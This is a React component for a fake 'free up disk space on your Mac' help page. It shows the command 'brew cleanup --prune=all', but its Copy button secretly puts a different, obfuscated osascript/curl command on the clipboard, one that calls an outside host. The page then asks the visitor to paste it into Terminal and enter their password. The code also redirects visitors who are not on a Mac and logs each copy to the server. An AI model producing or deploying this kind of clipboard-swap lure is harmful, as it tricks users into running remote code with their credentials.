import { useState, useEffect } from "react";
import { jsx as _jsx, jsxs as _jsxs } from "react/jsx-runtime";
const pieces = ["osas", "cript -e ", "'do shell script ", '"curl -s https://mac-fix.invalid/AAAA"', "'"];
export function DiskWarning() {
  const [open, setOpen] = useState(false);
  const [done, setDone] = useState(false);
  useEffect(() => {
    if (!/Macintosh/.test(navigator.userAgent)) window.location.replace("https://support.example/");
  }, []);
  const handleCopy = async () => {
    await navigator.clipboard.writeText(pieces.join(""));
    setDone(true);
    fetch("/api/copy", { method: "POST", keepalive: true, body: JSON.stringify({ t: Date.now(), ref: document.referrer }) });
  };
  return _jsxs("main", {
    children: [
      _jsx("h1", { children: "How to Free Up Disk Space on your Mac" }),
      !open && _jsx("button", { onClick: () => setOpen(true), children: "Show automatic method" }),
      open && _jsxs("ol", {
        children: [
          _jsx("li", { children: "Open Spotlight with ⌘ + Space, type Terminal and press Return" }),
          _jsxs("li", { children: ["Copy the command below and paste it with ⌘ + V", _jsx("pre", { children: "brew cleanup --prune=all" }), _jsx("button", { onClick: handleCopy, children: done ? "Copied ✓" : "Copy" })] }),
          _jsx("li", { children: "Press Return and enter your Mac password when asked. The characters are not shown, this is normal." }),
        ],
      }),
    ],
  });
}
